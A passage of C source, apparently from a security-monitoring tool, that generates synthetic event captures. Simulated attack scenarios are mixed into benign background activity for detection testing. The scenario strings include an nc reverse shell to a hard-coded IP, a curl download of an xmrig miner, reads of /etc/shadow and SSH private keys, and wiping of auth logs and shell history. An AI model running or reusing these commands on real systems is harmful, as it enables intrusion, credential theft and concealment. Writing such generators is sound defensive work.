        touch_file(g, dpkg, "/usr/bin/curl.dpkg-new", 1);
        sc_procexit(g, dpkg);
      }
      sc_procexit(g, apt);
    }
    sc_procexit(g, sh);
    break;
  }
  case VG_CAPGEN_SHADOW:
    switch (rn(g, 3)) {
    case 0:
      p = find_role(g, R_ROOTSH, -1);
      if (p)
        run_cmd(g, p, "/usr/bin/cat", "cat", "/etc/shadow", "/etc/shadow");
      break;
    case 1:
      p = find_role(g, R_PYTHON, -1);
      if (p)
        touch_file(g, p, "/etc/shadow", 0);
      break;
    default:
      p = find_role(g, R_NGINX_WORKER, -3);
      if (!p)
        break;
      sh = spawn(g, p, "/bin/sh", "sh", "-c\ncat /etc/shadow", -2, 0);
      if (sh) {
        run_cmd(g, sh, "/usr/bin/cat", "cat", "/etc/shadow", "/etc/shadow");
        sc_procexit(g, sh);
      }
      break;
    }
    break;
  case VG_CAPGEN_BIN_WRITE:
    p = find_role(g, R_ROOTSH, -1);
    if (!p)
      break;
    sh = spawn(g, p, "/usr/bin/curl", "curl",
               "-sLo\n/usr/bin/xmrig\nhttp://45.33.28.160/x", -2, p->tty);
    if (!sh)
      break;
    outbound(g, sh, PUBLIC_IPS[2], 80);
    touch_file(g, sh, "/usr/bin/xmrig", 1);
    sc_procexit(g, sh);
    break;
  case VG_CAPGEN_CONNECT: {
    uint32_t i = rn(g, sizeof PUBLIC_IPS / sizeof PUBLIC_IPS[0]);
    if (rn(g, 3) == 0) { /* a reverse shell from a container */
      sh = container_shell(g, (int)rn(g, G_NCTR), 0,
                           "-c\nnc 185.220.101.45 4444 -e /bin/sh");
      if (!sh)
        break;
      gproc *nc = spawn(g, sh, "/usr/bin/nc", "nc",
                        "185.220.101.45\n4444\n-e\n/bin/sh", -2, 0);
      if (nc) {
        gfd *s = sc_socket(g, nc);
        if (s) {
          sc_connect(g, nc, s, PUBLIC_IPS[1], 4444);
          for (int64_t fd = 0; fd < 3; fd++)
            sc_dup2(g, nc, s, fd);
          sc_sendrecv(g, nc, s, 0);
        }
        sc_procexit(g, nc);
      }
      sc_procexit(g, sh);
    } else {
      p = rn(g, 2) ? find_role(g, R_NODE, -3) : find_role(g, R_PYTHON, -1);
      if (p)
        outbound(g, p, PUBLIC_IPS[i], PUBLIC_PORTS[i]);
    }
    break;
  }
  case VG_CAPGEN_HOST_SPAWN:
    if (rn(g, 2)) {
      p = find_role(g, R_CRON, -1);
      if (!p)
        break;
      sh = spawn(g, p, "/bin/sh", "sh",
                 "-c\n[ -x /usr/sbin/logrotate ] && /usr/sbin/logrotate "
                 "/etc/logrotate.conf", -2, 0);
      if (!sh)
        break;
      gproc *lr = spawn(g, sh, "/usr/sbin/logrotate", "/usr/sbin/logrotate",
                        "/etc/logrotate.conf", -2, 0);
      if (lr) {
        touch_file(g, lr, "/etc/logrotate.conf", 0);
        touch_file(g, lr, "/var/lib/logrotate/status.tmp", 1);
        sc_procexit(g, lr);
      }
      sc_procexit(g, sh);
    } else {
      p = find_role(g, R_BASH, -1);
      if (!p)
        break;
      static const char *const CMDS[][3] = {
          {"/usr/bin/ls", "ls", "--color=auto"},
          {"/usr/bin/git", "git", "status"},
          {"/usr/bin/ps", "ps", "aux"},
          {"/usr/bin/vim", "vim", "notes.txt"},
      };
      uint32_t c = rn(g, 4);
      run_cmd(g, p, CMDS[c][0], CMDS[c][1], CMDS[c][2],
              c == 3 ? "/home/alice/notes.txt" : NULL);
    }
    break;
  case VG_CAPGEN_SSH_KEYS:
    p = find_role(g, R_ROOTSH, -1);
    if (rn(g, 2) && p)
      run_cmd(g, p, "/usr/bin/cat", "cat", "/root/.ssh/id_rsa",
              "/root/.ssh/id_rsa");
    else if ((p = find_role(g, R_PYTHON, -1)))
      touch_file(g, p, "/home/alice/.ssh/id_rsa", 0);
    break;
  case VG_CAPGEN_LOG_CLEAR:
    p = find_role(g, R_ROOTSH, -1);
    if (!p)
      break;
    sh = spawn(g, p, "/usr/bin/truncate", "truncate",
               "-s\n0\n/var/log/auth.log", -2, p->tty);
    if (sh) {
      touch_file(g, sh, "/var/log/auth.log", 1);
      sc_procexit(g, sh);
    }
    break;
  case VG_CAPGEN_HISTORY_DEL:
    p = find_role(g, R_ROOTSH, -1);
    if (!p)
      break;
    sh = spawn(g, p, "/usr/bin/rm", "rm", "-f\n/root/.bash_history", -2,
               p->tty);
    if (sh) {
      sc_unlinkat(g, sh, "/root/.bash_history");
      sc_procexit(g, sh);
    }
    break;
  default:
    break;
  }
}

static const uint32_t DEFAULT_WEIGHTS[VG_CAPGEN__COUNT] = {
    10, 8, 5, 10, 5, 15, 40, 7, 3, 3};

vigil_status vg_capgen_write(const char *path, const vg_capgen_opts *o,
                             vg_capgen_stats *stats, char *err,
                             size_t errlen) {
  gen *g = calloc(1, sizeof *g);
  if (!g) {
    snprintf(err, errlen, "out of memory");
    return VIGIL_E_NOMEM;
  }
  g->rng = o->seed ^ 0x76696769ull;
  g->limit = o->nevents;
  g->exit_only = o->exit_only;
  g->rate = o->scenario_rate ? o->scenario_rate : 200;
  for (int k = 0; k < VG_CAPGEN__COUNT; k++)
    g->wsum += o->weights[k];
  for (int k = 0; k < VG_CAPGEN__COUNT; k++)
    g->wt[k] = g->wsum ? o->weights[k] : DEFAULT_WEIGHTS[k];
  g->wsum = 0;
  for (int k = 0; k < VG_CAPGEN__COUNT; k++)
    g->wsum += g->wt[k];
  g->ts = 1764000000000000000ull + (o->seed % 1000) * 1000000000ull;
  g->next_ino = 500000;
  vigil_status st = vg_capw_open(path, o->gzip_level, &g->w, err, errlen);
  if (st != VIGIL_OK) {
    free(g);
    return st;
  }
  setup(g);
  st = write_metadata(g, g->ts - 86400ull * 1000000000ull);
  if (st == VIGIL_OK) {
    container_events(g);
    while (!g->stop) {
      if (g->wsum && rn(g, 100000) < g->rate) {
        uint32_t r = rn(g, g->wsum), k = 0;
        while (r >= g->wt[k])
          r -= g->wt[k++];
        scenario(g, (int)k);
        continue;
      }
      gproc *p = &g->p[rn(g, G_MAXP)];
      if (!p->live)
        p = &g->p[rn(g, N_BASE)];
      if (!p->live)
        continue;
      background(g, p);
      if (p->spawned && p->ttl && --p->ttl == 0)
        sc_procexit(g, p);
    }
  }
  g->st.events = vg_capw_count(g->w);
  if (stats)
    *stats = g->st;
  /* the writer keeps its first error; closing reports it (or its own) */
  char cerr[256];
  vigil_status cst = vg_capw_close(g->w, cerr, sizeof cerr);
  if (st == VIGIL_OK)
    st = cst;
  if (st != VIGIL_OK)
    snprintf(err, errlen, "%s: %s", path,
             cst != VIGIL_OK ? cerr : "write failed");
  free(g);
  return st;
}
